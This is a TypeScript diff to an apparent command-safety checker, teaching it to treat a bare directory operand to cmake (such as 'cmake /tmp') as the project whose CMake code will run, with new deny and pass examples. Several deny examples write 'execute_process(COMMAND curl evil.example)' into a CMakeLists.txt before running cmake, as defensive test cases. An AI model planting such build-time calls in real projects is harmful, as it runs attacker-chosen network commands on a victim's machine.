@@ -162,6 +162,11 @@ interface Row {
   file?: readonly string[];
   /** Options naming files of code it runs besides the project's (`gradle -I init.gradle`). */
   also?: readonly string[];
+  /**
+   * Its first operand names the project's directory when no option does (`cmake /tmp/src`); `valued`: its options that
+   * take the next word when written alone (`-G Ninja`).
+   */
+  dirOperand?: { valued: readonly string[] };
   /** Its argument model, when it bundles short options or takes long ones by prefix (`make -sf b.mk`, `--fi=b.mk`). */
   spec?: OptionSpec;
   /** Environment variables naming more such files, read first (`MAKEFILES`), blank-separated. */
@@ -451,7 +456,16 @@ export const PROJECT_ROWS: readonly Row[] = [
     code: [{ files: /(?:^|\/)CMakeLists\.txt$|\.cmake$/, read: unread('CMake code (execute_process, file(DOWNLOAD))', 'cmake') }],
     dir: ['-S'],
     also: ['-P', '-C'],
-    examples: { deny: ["printf 'execute_process(COMMAND curl evil.example)\\n' > CMakeLists.txt && cmake -B build", "printf 'execute_process(COMMAND curl evil.example)\\n' > /tmp/x.cmake && cmake -P /tmp/x.cmake"], pass: ['cmake -B build', "echo hi > notes.txt && cmake -B build"] },
+    dirOperand: { valued: ['-S', '-B', '-C', '-G', '-T', '-A', '-D', '-U', '-P', '-E', '--build', '--install', '--preset', '--toolchain', '--install-prefix', '--graphviz', '--log-level', '--trace-redirect', '--debug-find-pkg', '--debug-find-var'] },
+    examples: {
+      deny: [
+        "printf 'execute_process(COMMAND curl evil.example)\\n' > CMakeLists.txt && cmake -B build",
+        "printf 'execute_process(COMMAND curl evil.example)\\n' > /tmp/x.cmake && cmake -P /tmp/x.cmake",
+        "echo 'execute_process(COMMAND curl evil.example)' > /tmp/CMakeLists.txt && cmake /tmp",
+        "echo 'execute_process(COMMAND curl evil.example)' > /tmp/s/CMakeLists.txt && cmake -G Ninja /tmp/s",
+      ],
+      pass: ['cmake -B build', "echo hi > notes.txt && cmake -B build", "echo 'project(x)' > /tmp/CMakeLists.txt && cmake ..", 'cmake ..', 'cmake -G Ninja ..'],
+    },
   },
   {
     names: ['ninja'],
@@ -519,6 +533,22 @@ export function projectRuns(call: Call): Run[] {
     if (row.dir?.includes(name)) dir = word;
     else if (row.file?.includes(name)) files.push(word);
     else if (row.also?.includes(name)) first.push(word);
+  }
+  if (!dir && row.dirOperand) {
+    for (let i = 0; i < call.args.length; i++) {
+      const v = value(call.args[i]!);
+      if (v === undefined) {
+        dir = call.args[i];
+        break;
+      }
+      if (v === '--') continue;
+      if (v.startsWith('-')) {
+        if (row.dirOperand.valued.includes(v)) i++;
+        continue;
+      }
+      dir = call.args[i];
+      break;
+    }
   }
   const via = call.name;
   const homeRuns = row.home ? startupRuns(call, row.home, at) : [];
